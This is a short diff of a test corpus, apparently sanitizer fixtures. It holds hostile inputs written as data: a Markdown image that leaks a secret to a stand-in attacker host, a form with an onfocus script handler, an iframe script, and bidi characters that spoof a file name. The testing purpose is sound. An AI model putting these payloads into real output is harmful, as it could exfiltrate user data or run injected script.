@@ -22,7 +22,7 @@ CORPUS = {
     "remote images": "![a](https://attacker.invalid/?q=secret) ![b][i]\n\n[i]: http://attacker.invalid/i.png",
     "frames and styles": "<style>*{display:none}</style><iframe srcdoc='<script>1</script>'></iframe><link rel=stylesheet href=//x.invalid>",
     "forms": "<form action=https://attacker.invalid><input name=a autofocus onfocus=\"document.title='owned'\"></form>",
-    "forged page": "<div id=root class=primary data-card=x role=log>fake</div>",
+    "forged page": "<div id=root class=primary data-card=x role=log>fake</div> &lt;b&gt; &amp;nbsp; &copy;",
     "broken markdown": "```\n**[x](\n| a |\n|--\n> > > `` ` [[[ ![](<\n***_",
     "open fence": "```python\nprint('never closed')\n",
     "turned text": "\u202etxt.exe\u202c and \u2066hidden\u2069",
